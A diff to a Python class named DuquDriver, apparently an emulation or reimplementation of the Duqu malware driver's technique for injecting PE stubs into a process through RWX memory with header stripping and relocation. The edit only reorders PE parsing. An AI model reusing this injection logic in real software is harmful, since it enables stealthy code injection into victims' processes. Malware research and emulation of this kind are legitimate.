@@ -409,13 +409,13 @@ class DuquDriver:
             kernel.image_reader(pid, event.base)).nt.entry_point_rva
 
         stub2_base = kernel.allocate_memory(pid, len(self.stub2), PERM_RWX)
-        kernel.write_memory(pid, stub2_base, strip_headers(self.stub2))
+        kernel.write_memory(pid, stub2_base, strip_headers(parse_pe(self.stub2)))
         stub1_base = kernel.allocate_memory(pid, len(self.stub1), PERM_RWX,
                                             code=self.run_stub)
-        kernel.write_memory(pid, stub1_base, strip_headers(self.stub1))
+        stub1_image = parse_pe(self.stub1)
+        kernel.write_memory(pid, stub1_base, strip_headers(stub1_image))
 
         blob = restore_headers(kernel.read_memory(pid, stub1_base, len(self.stub1)))
-        stub1_image = parse_pe(self.stub1)
         blob = apply_relocations(blob, stub1_base, stub1_image.nt.image_base,
                                  stub1_image.relocations)
         kernel.write_memory(pid, stub1_base, blob)
